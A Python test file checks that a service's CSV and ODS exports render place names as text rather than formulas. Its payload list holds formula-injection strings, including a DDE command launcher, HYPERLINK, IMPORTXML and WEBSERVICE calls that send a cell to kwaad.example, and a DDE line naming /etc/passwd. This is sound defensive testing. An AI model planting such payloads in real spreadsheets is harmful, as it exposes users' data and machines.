"""T50: names that want to be formulas, in every file the service gives: a spreadsheet shows them as text.

Two readers look: calamine at what each cell is, and LibreOffice itself where it is installed (the long run says whether).
"""

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from python_calamine import CalamineWorkbook

from capacity_service.api import bladen
from capacity_service.api.bestanden import make_bezettingblad, make_historieblad
from capacity_service.api.bladen import Blad, write_csv, write_ods
from tests.faults.figures import LONG, report
from tests.land import Dienst, Json, expect

pytestmark = pytest.mark.faults

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://kwaad.example/?x="&A1,"klik")',
    '=IMPORTXML(CONCAT("http://kwaad.example/",A1),"//a")',
    '=WEBSERVICE("http://kwaad.example")',
    '=DDE("soffice";"/etc/passwd";"A1")',
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1;1)",
    '";=1+1;"',
    '"\r\n=1+1;"',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "{=1+1}",
    "%0A=1+1",
]
"""More than thirty: of each way that is known to begin a formula or to break out of a cell one."""
BEGINS = re.compile(r"[=+\-@＝＋－＠\t\r\n\x00]")
FORMULA = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula"
CELL = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table-cell"
KIND = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}value-type"


def poison(body: Json) -> Json:
    """What the service tells, with these as the names of the first centrumgemeenten."""
    rows = [row | {"naam": PAYLOADS[n]} if n < len(PAYLOADS) else row for n, row in enumerate(body["centrumgemeenten"])]
    return body | {"centrumgemeenten": rows}


async def make_blad(dienst: Dienst) -> Blad:
    body = expect(await (await dienst.as_rol("landelijk")).get("/bezetting"), 200)
    assert len(body["centrumgemeenten"]) >= len(PAYLOADS)
    return make_bezettingblad(poison(body), None)


def read_cells(csv: bytes) -> list[list[str]]:
    """As a program reads it that only knows the separator and the quote."""
    rows, row, cel, quoted = [], [], "", False
    text = csv.decode("utf-8-sig")
    for letter in text:
        if letter == '"':
            quoted = not quoted
        elif letter == ";" and not quoted:
            row.append(cel)
            cel = ""
        elif letter == "\n" and not quoted:
            rows.append([*row, cel.removesuffix("\r")])
            row, cel = [], ""
        else:
            cel += letter
    return rows


def count_formulas_in_csv(blad: Blad) -> int:
    rows = read_cells(write_csv(blad))
    assert {len(row) for row in rows} == {len(blad.kop)}, "nothing breaks out of its cell or its row"
    return sum(BEGINS.match(cel.strip("\u00a0\u200b\ufeff\u202e\x0b ")) is not None for row in rows for cel in row)


def count_formulas_in_ods(blad: Blad) -> int:
    content = ET.fromstring(zipfile.ZipFile(io.BytesIO(write_ods(blad))).read("content.xml"))  # noqa: S314 - ours
    cells = list(content.iter(CELL))
    assert {cel.get(KIND) for cel in cells} <= {"string", "float", "date", None}
    return sum(FORMULA in cel.attrib for cel in cells)


async def test_no_name_becomes_a_formula(dienst: Dienst) -> None:
    blad = await make_blad(dienst)
    found = count_formulas_in_csv(blad), count_formulas_in_ods(blad)
    report(f"T50: {len(PAYLOADS)} payloads in CSV and in ODS, {sum(found)} formulas")
    assert found == (0, 0)
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(write_ods(blad))).get_sheet_by_name("Bezetting").to_python()
    assert len(sheet) == len(blad.rijen) + 1
    assert all(isinstance(row[1], str) for row in sheet)


async def test_the_wall_removed_names_become_formulas(dienst: Dienst, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bladen, "BEGINS_A_FORMULA", re.compile("(?!)"))
    assert count_formulas_in_csv(await make_blad(dienst)) >= 20


async def test_a_file_has_no_column_about_anybody(dienst: Dienst) -> None:
    client = await dienst.as_rol("landelijk")
    bezetting = make_bezettingblad(expect(await client.get("/bezetting"), 200), None)
    historie = make_historieblad(expect(await client.get("/historie"), 200))
    words = {word.lower() for kop in (*bezetting.kop, *historie.kop) for word in re.findall(r"\w+", kop)}
    assert not words & {
        "huis",
        "plaats",
        "id",
        "referentie",
        "aanvraag",
        "plaatsing",
        "organisatie",
        "nummer",
        "adres",
        "kind",
    }


def convert(soffice: str, folder: Path, name: str, content: bytes, *options: str) -> ET.Element:
    """What LibreOffice makes of a file, in the flat form of its own format."""
    (folder / name).write_bytes(content)
    where = ["--headless", f"-env:UserInstallation=file://{folder / 'profiel'}", *options]
    command = [soffice, *where, "--convert-to", "fods", "--outdir", str(folder), str(folder / name)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    return ET.fromstring((folder / name).with_suffix(".fods").read_text(encoding="utf-8"))  # noqa: S314 - ours


SOFFICE: Any = shutil.which("soffice")


@pytest.mark.skipif(not (LONG and SOFFICE), reason="long, and where LibreOffice is installed")
async def test_libreoffice_itself_sees_text(dienst: Dienst, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    blad = await make_blad(dienst)
    csv_filter = "--infilter=CSV:59,34,76,1,,1043,false,true,false,false,false,-1,true"
    trees = [
        convert(SOFFICE, tmp_path, "een.csv", write_csv(blad), csv_filter),
        convert(SOFFICE, tmp_path, "twee.ods", write_ods(blad)),
    ]
    found = [sum(FORMULA in cel.attrib for cel in tree.iter(CELL)) for tree in trees]
    monkeypatch.setattr(bladen, "BEGINS_A_FORMULA", re.compile("(?!)"))
    bare = convert(SOFFICE, tmp_path, "drie.csv", write_csv(blad), csv_filter)
    without = sum(FORMULA in cel.attrib for cel in bare.iter(CELL))
    report(f"T50: LibreOffice sees {found} formulas in CSV and ODS; {without} with the wall removed")
    assert found == [0, 0]
    assert without >= 3
